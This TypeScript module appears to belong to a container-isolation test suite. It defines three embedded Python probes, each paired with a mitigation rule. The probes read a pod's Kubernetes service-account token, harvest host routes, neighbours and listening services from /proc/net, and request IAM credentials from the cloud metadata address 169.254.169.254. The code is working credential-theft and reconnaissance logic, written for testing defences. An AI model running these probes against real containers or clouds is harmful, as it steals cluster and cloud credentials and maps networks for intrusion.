import { type Attack, attack, WEAK_NETWORK, WEAK_USER } from "../attack.ts";
import { python } from "../programs/load.ts";

const READ_TOKEN = python(`
def read(path):
    with open(path) as file:
        return file.read().strip()

def steal():
    for place in ("/run", "/var/run"):
        path = place + "/secrets/kubernetes.io/serviceaccount/token"
        try:
            tell("succeeded", "read " + read(path))
            return
        except FileNotFoundError:
            continue
        except OSError as problem:
            conclude({"read": problem.errno})
            return
    tell("broken", "there is no token to steal")

control(attempt(read, "/etc/hostname"))
steal()
`);

const NETWORK_TABLES = python(`
import socket, struct

refused = []
def lines(name):
    try:
        with open("/proc/net/" + name) as file:
            return [line.split() for line in file.read().splitlines()[1:]]
    except PermissionError:
        refused.append(name)
        return []

def address(text):
    return socket.inet_ntoa(struct.pack("=I", int(text, 16)))

control(attempt(lines, "dev"))
routes = ["route to " + address(line[1]) for line in lines("route") if address(line[1]) != "127.0.0.0"]
neighbours = ["neighbour " + line[0] for line in lines("arp")]
places = [(address(line[1].split(":")[0]), int(line[1].split(":")[1], 16)) for line in lines("tcp")]
listeners = ["service on %s:%d" % place for place in places if not place[0].startswith("127.")]
found = routes + neighbours + listeners
if found:
    tell("succeeded", ", ".join(found))
else:
    tell("denied", "only its own empty tables" + (", and not even " + ", ".join(refused) if refused else ""))
`);

const METADATA = python(`
import http.client, socket

UNREACHABLE = REFUSED + (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL, errno.EAFNOSUPPORT)

def own_loopback():
    with socket.create_server(("127.0.0.1", 0)) as server:
        socket.create_connection(server.getsockname(), timeout=5).close()

def ask(address):
    connection = http.client.HTTPConnection(address, 80, timeout=5)
    connection.request("GET", "/latest/meta-data/iam/security-credentials/node")
    return connection.getresponse().read().decode()

def datagram(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as unconnected:
        unconnected.sendto(b"x", (address, 80))

control(attempt(own_loopback))
ways = {
    "credentials over TCP": attempt(ask, "169.254.169.254"),
    "credentials over IPv4 in IPv6": attempt(ask, "::ffff:169.254.169.254"),
    "a datagram": attempt(datagram, "169.254.169.254"),
}
conclude(ways, refused=UNREACHABLE)
`);

/** Secrets and knowledge of the host that lie within reach of code in an ordinary container. */
export const leakAttacks: Attack[] = [
  attack({
    id: "service-account-token",
    title: "Reading a Kubernetes service-account token",
    story: "With the token that Kubernetes puts into every pod, the attacker speaks to the cluster in the platform's name.",
    rule: "mitigate-sa-leak",
    weak: WEAK_USER,
    code: READ_TOKEN,
  }),
  attack({
    id: "proc-net-tables",
    title: "Reading the host's network tables in /proc/net",
    story: "Routes, neighbours and listening services tell where to strike next.",
    rule: "mitigate-host-ip-leak",
    weak: WEAK_NETWORK,
    code: NETWORK_TABLES,
  }),
  attack({
    id: "metadata-address",
    title: "Asking the cloud's metadata address for credentials",
    story: "At 169.254.169.254 a cloud hands the machine's own credentials to whoever asks from inside.",
    rule: "disallow-metadata-service",
    weak: WEAK_NETWORK,
    code: METADATA,
  }),
];
